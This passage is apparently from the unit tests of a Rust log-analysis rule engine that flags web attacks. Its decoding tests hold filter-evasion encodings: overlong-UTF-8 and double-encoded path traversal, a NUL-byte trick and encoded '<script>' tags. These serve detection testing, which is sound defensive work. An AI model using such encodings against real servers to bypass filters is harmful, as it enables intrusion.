            (vec![rule("too_high", "x", 1.5)], "too_high"),
            (vec![rule("negative", "x", -0.1)], "negative"),
            (vec![rule("nan", "x", f32::NAN)], "nan"),
            (vec![rule("  ", "x", 0.5)], "#1"),
            (vec![rule("a", "x", 0.5), rule("a", "y", 0.5)], "\"a\""),
            (vec![rule("huge", "(?:a{1000}){1000}", 0.5)], "huge"),
        ] {
            let err = RuleSet::new(rules).unwrap_err();
            assert_eq!(err.kind(), crate::error::ErrorKind::InvalidInput);
            assert!(err.to_string().contains(needle), "{err} lacks {needle}");
        }
        // Boundaries are fine.
        assert!(RuleSet::new(vec![rule("zero", "x", 0.0), rule("one", "y", 1.0)]).is_ok());
    }

    #[test]
    fn decoding() {
        assert_eq!(url_decode("a%20b+c%2"), "a b c%2");
        assert_eq!(url_decode("%u003cscript%u003E"), "<script>");
        assert_eq!(url_decode("..%c0%af..%c0%AF"), "../../");
        assert_eq!(url_decode("%e0%80%af"), "/");
        assert_eq!(url_decode("%zz%"), "%zz%");
        assert_eq!(
            html_decode("&lt;a&gt;&#60;&#x3C;&#x3c&quot;&amp;&bogus;"),
            "<a><<<\"&&bogus;"
        );
        assert_eq!(
            html_decode("&#99999999999;&#x110000;&"),
            "&#99999999999;&#x110000;&"
        );
        let (t, nul) = normalize("/a%2500b%252E%252E%252F");
        assert_eq!((t.as_str(), nul), ("/ab../", true));
        let (t, _) = normalize("ＡＢ＜ｓｃｒｉｐｔ＞");
        assert_eq!(t, "ab<script>");
    }

    #[test]
    fn odd_input_never_panics() {
        let rs = RuleSet::new(vec![CustomRule {
            name: "empty_match".into(),
            pattern: "x*".into(),
            severity: 0.1,
        }])
        .unwrap();
        let long = "%".repeat(10_000) + &"é".repeat(1000) + &"&#".repeat(1000);
        let inputs = [
            "",
            "%",
            "%u",
            "%uZZZZ",
            "%ud800",
            "%c0",
            "%e0%80",
            "&",
            "&#",
            "&#x",
            "&#;",
            "\0\0",
            "é%",
            "日本語 ERROR 例外",
            "\u{FF5E}\u{FF01}",
            "%F0%9F%92%A9%ff%fe",
            long.as_str(),
        ];
        for s in inputs {
            for level in [None, Some(s), Some("E")] {
                let _ = rs.evaluate(&RuleInput {
                    line: s,
                    content: s,
                    level,
                    http_status: Some(u16::MAX),
                    http_target: Some(s),
                    http_user_agent: Some(s),
                    http_referrer: Some(s),
                });
                let _ = rs.evaluate(&RuleInput {
                    line: s,
                    content: s,
                    level,
                    ..RuleInput::default()
                });
            }
        }
    }

    #[test]
    fn serde_names_are_stable() {
        assert_eq!(
            serde_json::to_string(&RuleCategory::SqlInjection).unwrap(),
            "\"sql_injection\""
        );
        assert_eq!(
            serde_json::to_string(&RuleCategory::HttpError).unwrap(),
            "\"http_error\""
        );
        let hit = RuleHit {
            rule: "attack:xss".into(),
            category: RuleCategory::Xss,
            severity: 0.8,
            evidence: "<script".into(),
        };
        let back: RuleHit = serde_json::from_str(&serde_json::to_string(&hit).unwrap()).unwrap();
        assert_eq!(back, hit);
    }

    #[test]
    fn send_sync() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<RuleSet>();
    }
}
